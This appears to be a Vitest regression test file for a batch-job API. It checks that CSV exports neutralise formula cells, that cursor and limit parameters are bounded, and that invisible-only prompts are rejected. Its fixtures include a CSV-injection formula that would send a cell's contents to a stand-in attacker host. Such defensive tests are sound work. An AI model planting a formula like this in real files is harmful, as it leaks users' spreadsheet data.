import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { buildTestApp } from '../../test-app';

let t: Awaited<ReturnType<typeof buildTestApp>>;
beforeAll(async () => {
  t = await buildTestApp('batch-exports');
});
afterAll(async () => t?.close());

const formulas = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', '+1+2', '-2+3', '@SUM(A1)'];

describe('CSV exports are safe to open in a spreadsheet', () => {
  it('cells starting with =, +, -, @ (or a tab trimmed away on upload) are exported with a leading quote, JSON stays exact (was verbatim: CSV injection)', async () => {
    const items = [...formulas.map((f, i) => ({ prompt: f, ref: f.replace('=', `=R${i}`) })), { prompt: 'a plain prompt', ref: 'plain' }];
    const created = await t.app.inject({ method: 'POST', url: '/v1/batches', headers: t.auth, payload: { items } });
    expect(created.statusCode).toBe(201);
    const id = created.json().id as string;
    const csv = (await t.app.inject({ url: `/v1/batches/${id}/results?format=csv`, headers: t.auth })).body;
    const lines = csv.trim().split('\r\n').slice(1);
    expect(lines).toHaveLength(5);
    for (const line of lines.slice(0, 4)) {
      // Every text cell that could start a formula now starts with a quote: ref, then prompt.
      const cells = line.match(/("(?:[^"]|"")*"|[^,]*)(,|$)/g)!.map((c) => c.replace(/,$/, '').replace(/^"|"$/g, '').replaceAll('""', '"'));
      expect(cells[0]!.startsWith("'")).toBe(true);
      expect(cells[2]!.startsWith("'")).toBe(true);
    }
    expect(lines[4]).toMatch(/^plain,5,a plain prompt,queued/);
    const json = (await t.app.inject({ url: `/v1/batches/${id}/results?format=json`, headers: t.auth })).body;
    for (const f of formulas) expect(json).toContain(JSON.stringify(f).slice(1, -1));
    expect(json).not.toContain("'=");

    const tabbed = await t.app.inject({
      method: 'POST',
      url: '/v1/batches',
      headers: { ...t.auth, 'content-type': 'text/csv' },
      payload: 'prompt,ref\n"\t=x",\tr\n',
    });
    expect(tabbed.statusCode).toBe(201);
    const tabbedCsv = (await t.app.inject({ url: `/v1/batches/${tabbed.json().id}/results?format=csv`, headers: t.auth })).body;
    expect(tabbedCsv.split('\r\n')[1]).toMatch(/^r,1,'=x,queued/);
  });
});

describe('numeric query parameters are bounded', () => {
  it('cursor=2147483648 on a batch job list is a 400 naming cursor (was a 500 "out of range for type integer")', async () => {
    const created = await t.app.inject({ method: 'POST', url: '/v1/batches', headers: t.auth, payload: { items: [{ prompt: 'one' }] } });
    const id = created.json().id as string;
    for (const cursor of ['2147483648', '99999999999999999999', '-1', '1e400', 'abc']) {
      const res = await t.app.inject({ url: `/v1/batches/${id}/jobs?cursor=${cursor}`, headers: t.auth });
      expect(res.statusCode, cursor).toBe(400);
      expect(res.json().error.field).toBe('cursor');
    }
    expect((await t.app.inject({ url: `/v1/batches/${id}/jobs?cursor=2147483647`, headers: t.auth })).statusCode).toBe(200);
    for (const url of ['/v1/jobs?limit=100000000000', `/v1/batches/${id}/jobs?limit=1e300`, '/v1/batches?limit=-5']) {
      const res = await t.app.inject({ url, headers: t.auth });
      expect(res.statusCode, url).toBe(400);
      expect(res.json().error.field).toBe('limit');
    }
  });
});

describe('a prompt with no visible character', () => {
  it('a prompt of only U+200B (or other invisible characters) is a 400 naming prompt, for a job and for a batch row (was accepted)', async () => {
    for (const prompt of ['\u200b', '\u200b\u2060\ufeff', ' \u200d\u3164 ']) {
      const res = await t.app.inject({ method: 'POST', url: '/v1/jobs', headers: t.auth, payload: { prompt } });
      expect(res.statusCode).toBe(400);
      expect(res.json().error).toMatchObject({ code: 'validation_failed', field: 'prompt' });
    }
    const batch = await t.app.inject({ method: 'POST', url: '/v1/batches', headers: t.auth, payload: { items: [{ prompt: 'fine' }, { prompt: '\u200b' }] } });
    expect(batch.statusCode).toBe(422);
    expect(batch.json().error.rows).toEqual([{ row: 2, column: 'prompt', message: 'must contain a visible character' }]);
    expect((await t.app.inject({ method: 'POST', url: '/v1/jobs', headers: t.auth, payload: { prompt: '\u200bcat' } })).statusCode).toBe(202);
  });
});
